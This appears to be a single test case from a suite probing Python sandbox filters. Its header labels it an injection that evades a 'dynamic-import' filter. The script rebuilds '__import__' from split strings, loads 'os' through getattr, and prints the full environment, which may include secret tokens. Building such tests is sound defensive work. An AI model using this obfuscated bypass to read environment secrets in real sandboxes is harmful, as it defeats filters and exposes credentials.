# family: injection
# filterfamily: dynamic-import
# tries: fetch the import function from the builtins namespace with getattr, then read the environment secret
# source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes
# exfil: yes
import sys

token, home, hosttmp, tcp, udp, unix, decoy, userfiles = sys.argv[1:9]
imp = getattr(__builtins__, "__imp" + "ort__")
env = getattr(imp("o" + "s"), "envi" + "ron")
print(dict(env))
